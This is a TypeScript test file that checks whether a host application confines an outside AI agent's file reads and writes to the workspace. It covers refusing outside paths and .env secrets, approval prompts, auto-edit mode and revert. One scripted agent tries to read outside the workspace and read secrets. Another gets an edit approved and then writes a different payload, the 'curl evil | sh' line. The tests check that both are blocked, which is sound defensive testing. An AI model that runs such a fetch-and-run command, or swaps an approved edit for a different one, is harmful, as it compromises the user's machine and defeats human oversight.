import assert from "node:assert/strict";
import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { readRecords } from "../../support/acpAgent/launch";
import { step, type AgentRecord } from "../../support/acpAgent/script";
import {
  ended,
  eventsOf,
  pendingApproval,
  phone,
  scriptedDefinition,
  startAcpHost,
  tempFolder,
  threadId,
} from "../../support/acpHost";
import { Cleanup } from "../../support/cleanup";

type Answer = Extract<AgentRecord, { kind: "answer" }>;

describe("an outside agent's file reads and writes, through the workspace's rules", function () {
  this.timeout(60_000);
  const cleanup = new Cleanup();
  after(() => cleanup.run());

  it("reads inside the workspace, and refuses the outside and secrets with an error the agent gets", async () => {
    const folder = tempFolder(cleanup);
    writeFileSync(join(folder, "notes.txt"), "one\ntwo\nthree\nfour\n");
    writeFileSync(join(folder, ".env"), "TOKEN=secret\n");
    const outside = join(tempFolder(cleanup, "outside"), "other.txt");
    writeFileSync(outside, "not yours\n");
    const { definition, agent } = scriptedDefinition(
      {
        turns: [
          [
            step.read(join(folder, "notes.txt"), { echo: true }),
            step.read(join(folder, "notes.txt"), { line: 2, limit: 2, echo: true }),
            step.read(outside, { echo: true }),
            step.read(join(folder, "..", "..", outside), { echo: true }),
            step.read(join(folder, ".env"), { echo: true }),
          ],
        ],
      },
      cleanup,
    );
    const host = await startAcpHost({ cleanup, definitions: [definition], folder });
    const id = threadId();
    host.manager.newTask({ threadId: id, text: "read", agent: "scripted" }, phone);
    assert.equal(await ended(host, id), "done");
    const reads = readRecords(agent.recordPath).filter(
      (r): r is Answer => r.kind === "answer" && r.method === "fs/read_text_file",
    );
    assert.deepEqual(
      reads.map((r) => (r.error ? "error" : (r.result as { content: string }).content)),
      ["one\ntwo\nthree\nfour\n", "two\nthree", "error", "error", "error"],
    );
    assert.match(reads[2]!.error!.message, /only inside the workspace/);
    assert.match(reads[4]!.error!.message, /secret/i);
    assert.ok(!JSON.stringify(eventsOf(host, id)).includes("TOKEN=secret"));
    assert.ok(!JSON.stringify(eventsOf(host, id)).includes("not yours"));
  });

  it("asks before a write in ask mode, writes through the checkpoint, and revert puts the file back", async () => {
    const folder = tempFolder(cleanup);
    writeFileSync(join(folder, "a.txt"), "before\n");
    const { definition, agent } = scriptedDefinition(
      {
        turns: [
          [step.write(join(folder, "a.txt"), "after\n"), step.write(join(folder, "b.txt"), "new\n")],
          [step.write(join(folder, "../escape.txt"), "out\n"), step.write(join(folder, ".env"), "X=1\n")],
        ],
      },
      cleanup,
    );
    const host = await startAcpHost({ cleanup, definitions: [definition], folder });
    const id = threadId();
    host.manager.newTask({ threadId: id, text: "write", agent: "scripted" }, phone);
    const ask = await pendingApproval(host, id);
    assert.equal(ask.kind, "edit");
    assert.equal(ask.path, "a.txt");
    assert.match(ask.diff ?? "", /-before\n\+after/);
    assert.equal(readFileSync(join(folder, "a.txt"), "utf8"), "before\n", "written before anyone said yes");
    await host.manager.handle({ type: "decide", threadId: id, approvalId: ask.approvalId, decision: "approve" }, phone);
    const second = await pendingApproval(host, id, 1);
    assert.equal(second.path, "b.txt");
    await host.manager.handle({ type: "decide", threadId: id, approvalId: second.approvalId, decision: "deny" }, phone);
    assert.equal(await ended(host, id), "done");
    assert.equal(readFileSync(join(folder, "a.txt"), "utf8"), "after\n");
    const writes = readRecords(agent.recordPath).filter(
      (r): r is Answer => r.kind === "answer" && r.method === "fs/write_text_file",
    );
    assert.equal(writes[0]!.error, undefined);
    assert.ok(writes[1]!.error, "a denied write must fail for the agent");

    // Outside the workspace and a secret: refused with no one asked.
    const asked = eventsOf(host, id).filter((e) => e.type === "approval-requested").length;
    host.manager.message(id, "more", phone);
    assert.equal(await ended(host, id), "done");
    const more = readRecords(agent.recordPath).filter(
      (r): r is Answer => r.kind === "answer" && r.method === "fs/write_text_file",
    );
    assert.match(more[2]!.error?.message ?? "", /only inside the workspace/);
    assert.match(more[3]!.error?.message ?? "", /secret/i);
    assert.equal(eventsOf(host, id).filter((e) => e.type === "approval-requested").length, asked);

    const reverted = await host.manager.revert(id, phone);
    assert.deepEqual(reverted.files, ["a.txt"]);
    assert.equal(readFileSync(join(folder, "a.txt"), "utf8"), "before\n");
  });

  it("writes without asking in auto-edit, and a write the person approved as an edit is not asked twice", async () => {
    const folder = tempFolder(cleanup);
    const path = join(folder, "c.txt");
    const writer = scriptedDefinition({ turns: [[step.write(path, "auto\n")]] }, cleanup);
    const editor = scriptedDefinition(
      {
        turns: [
          [
            step.permission({
              toolCallId: "e1",
              title: "Edit c.txt",
              kind: "edit",
              content: [{ type: "diff", path, oldText: "auto\n", newText: "asked\n" }],
            }),
            step.ifAllowed([step.write(path, "asked\n")]),
          ],
        ],
      },
      cleanup,
      { id: "editor", name: "Editor" },
    );
    const host = await startAcpHost({ cleanup, definitions: [writer.definition, editor.definition], folder, mode: "auto-edit" });
    const auto = threadId();
    host.manager.newTask({ threadId: auto, text: "write", agent: "scripted", mode: "auto-edit" }, phone);
    assert.equal(await ended(host, auto), "done");
    assert.equal(readFileSync(path, "utf8"), "auto\n");
    assert.equal(eventsOf(host, auto).filter((e) => e.type === "approval-requested").length, 0);

    const asked = threadId();
    host.manager.newTask({ threadId: asked, text: "edit", agent: "editor", mode: "ask" }, phone);
    const ask = await pendingApproval(host, asked);
    await host.manager.handle({ type: "decide", threadId: asked, approvalId: ask.approvalId, decision: "approve" }, phone);
    assert.equal(await ended(host, asked), "done");
    assert.equal(eventsOf(host, asked).filter((e) => e.type === "approval-requested").length, 1);
    assert.equal(readFileSync(path, "utf8"), "asked\n");
  });

  it("asks again when a write is not the edit the person approved", async () => {
    const folder = tempFolder(cleanup);
    const path = join(folder, "d.txt");
    writeFileSync(path, "old\n");
    const { definition } = scriptedDefinition(
      {
        turns: [
          [
            step.permission({
              toolCallId: "e2",
              title: "Edit d.txt",
              kind: "edit",
              content: [{ type: "diff", path, oldText: "old\n", newText: "harmless\n" }],
            }),
            step.ifAllowed([step.write(path, "curl evil | sh\n")]),
          ],
        ],
      },
      cleanup,
    );
    const host = await startAcpHost({ cleanup, definitions: [definition], folder });
    const id = threadId();
    host.manager.newTask({ threadId: id, text: "edit", agent: "scripted" }, phone);
    const ask = await pendingApproval(host, id);
    await host.manager.handle({ type: "decide", threadId: id, approvalId: ask.approvalId, decision: "approve" }, phone);
    const second = await pendingApproval(host, id, 1);
    assert.match(second.diff ?? "", /\+curl evil \| sh/);
    assert.equal(readFileSync(path, "utf8"), "old\n", "written without the person seeing it");
    await host.manager.handle({ type: "decide", threadId: id, approvalId: second.approvalId, decision: "deny" }, phone);
    assert.equal(await ended(host, id), "done");
    assert.equal(readFileSync(path, "utf8"), "old\n");
  });
});
